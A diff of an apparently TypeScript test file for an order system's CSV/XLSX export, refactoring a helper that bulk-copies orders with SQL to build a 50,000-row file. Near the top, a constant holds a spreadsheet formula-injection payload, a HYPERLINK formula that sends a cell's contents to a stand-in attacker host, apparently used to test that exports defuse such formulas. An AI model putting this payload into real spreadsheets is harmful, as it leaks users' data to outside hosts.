@@ -1,9 +1,10 @@
 import { ExternalOrder } from '../../src/orders/external-orders/external-order.entity.js';
 import type { ApiClient } from '../support/api-client.js';
 import { noticeEventually } from '../support/delivering.js';
-import { addPerson, dataSourceOf } from '../support/people.js';
+import { addPerson } from '../support/people.js';
 import { orderOf, positionOf, Shop } from '../support/shop.js';
 import { download, openCsv, openXlsx } from '../support/spreadsheet.js';
+import { sql, stored } from '../support/stored.js';
 
 const EVIL = `=HYPERLINK("http://evil.example?"&A1;"ok")`;
 const MOSCOW = 3 * 3_600_000;
@@ -326,8 +327,8 @@ describe('a file of 50,000 rows', () => {
 
 /** Adds so many copies of the one external order that there is. */
 async function copyFirst(shop: Shop, count: number): Promise<void> {
-  const dataSource = dataSourceOf(shop);
-  const columns = dataSource.getMetadata(ExternalOrder).columns.filter(({ isInsert }) => isInsert);
+  const { columns: all } = stored(shop).connection.getMetadata(ExternalOrder);
+  const columns = all.filter(({ isInsert }) => isInsert);
   const copied = columns.map(({ databaseName }) => databaseName).filter((name) => name !== 'id');
   const values = copied.map((name) => (name.startsWith('external_id') ? 'numbers.n' : name));
   const digits = `(${Array.from({ length: 10 }, (_, digit) => `SELECT ${digit} AS n`).join(' UNION ALL ')})`;
@@ -336,7 +337,8 @@ async function copyFirst(shop: Shop, count: number): Promise<void> {
   const numbers = `SELECT ${number} AS n FROM ${places.map((place) => `${digits} ${place}`).join(' CROSS JOIN ')}`;
   // In parts, since a statement has a time limit.
   for (let from = 0; from < count; from += 2_000) {
-    await dataSource.query(
+    await sql(
+      shop,
       `INSERT INTO external_orders (${copied.join(', ')})
        SELECT ${values.join(', ')} FROM external_orders CROSS JOIN (${numbers}) numbers
        WHERE external_orders.id = 1 AND numbers.n >= ${from} AND numbers.n < ${Math.min(from + 2_000, count)}`,
